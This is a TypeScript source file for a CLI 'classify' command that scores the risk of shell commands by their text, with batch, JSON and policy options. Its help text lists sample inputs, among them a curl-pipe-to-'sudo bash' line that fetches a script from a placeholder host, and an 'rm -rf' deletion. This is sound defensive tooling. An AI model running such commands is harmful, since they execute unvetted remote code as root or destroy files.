import { pipeline } from 'node:stream/promises';
import { safeJson } from '@drylane/chassis/redact/visible';
import type { Risk } from '@drylane/proto/risk';
import type { Command } from 'commander';
import { readBatch } from '../batch.ts';
import { type Context, colours, printJson } from '../context.ts';
import { diagnose } from '../diagnostic.ts';
import { EXIT } from '../exit.ts';
import { renderBlock } from '../print.ts';
import { requiredCommand } from '../shell-words.ts';
import { splitLines } from '../splitting.ts';
import type { Colours } from '../terminal.ts';

interface Options {
  readonly batch?: boolean;
  readonly json?: boolean;
  readonly policy?: string;
}

const HELP = `
Exits 0 whatever the risk is: it is read from the answer. docs/risk.md says what a score is made of.

Examples:
  drylane classify -- 'curl -s https://x.example/i.sh | sudo bash'
  drylane classify --json -- 'rm -rf build' | jq -e '.level != "high"'
`;

export function registerClassify(root: Command, context: Context, done: (status: number) => void): void {
  root
    .command('classify')
    .description('the risk of a command, from its text alone')
    .argument('[command...]', 'the command, after --')
    .option('--batch', 'read JSON Lines {id, command} on standard input, answer one line each')
    .option('--policy <file>', 'take the thresholds from this policy: a file, or standard, strict or open')
    .option('--json', 'one JSON document on standard output')
    .addHelpText('after', HELP)
    .action(async (words: string[], options: Options) => {
      const { classifyCommand, splitCommand } = await import('../embedded/tools.ts');
      const classify = await classifyCommand(options.policy);
      if (options.batch) await batch(context, classify);
      else {
        const command = requiredCommand(words);
        const risk = classify(command);
        if (options.json) printJson(context, risk);
        else {
          const paint = colours(context);
          context.stdout.write(render(command, risk, { paint, width: context.stdout.columns ?? WIDTH }));
          if (risk.opaque)
            context.stdout.write(renderBlock(splitLines(splitCommand(command, 'bash')), paint));
        }
      }
      done(EXIT.ok);
    });
}

async function batch({ stdin, stdout }: Context, classify: (command: string) => Risk): Promise<void> {
  const answers = async function* () {
    for await (const { id, command } of readBatch(stdin)) yield `${safeJson({ id, ...classify(command) })}\n`;
  };
  await pipeline(answers, stdout, { end: false }).catch((fault: NodeJS.ErrnoException) => {
    // Nobody reads any more: `| head` has what it wanted.
    if (fault.code !== 'EPIPE') throw fault;
  });
}

/** Columns where there is no terminal to ask. */
const WIDTH = 120;

function render(command: string, risk: Risk, { paint, width }: { paint: Colours; width: number }): string {
  const tone = { low: paint.green, medium: paint.yellow, high: paint.red }[risk.level];
  const dimensions = Object.entries(risk.dimensions).map(([name, points]) => `${name} ${points}`);
  const state = [risk.parsed ? [] : ['does not parse'], risk.opaque ? ['opaque'] : []].flat();
  const head = `risk score:     ${tone(`${risk.score} (${risk.level})`)}   ${dimensions.join(' · ')}`;
  const rest = diagnose(command, risk.reasons, { width, paint });
  return `${[head, ...state.map((s) => paint.yellow(s))].join('   ')}\n${rest === '' ? '' : `\n${rest}`}`;
}
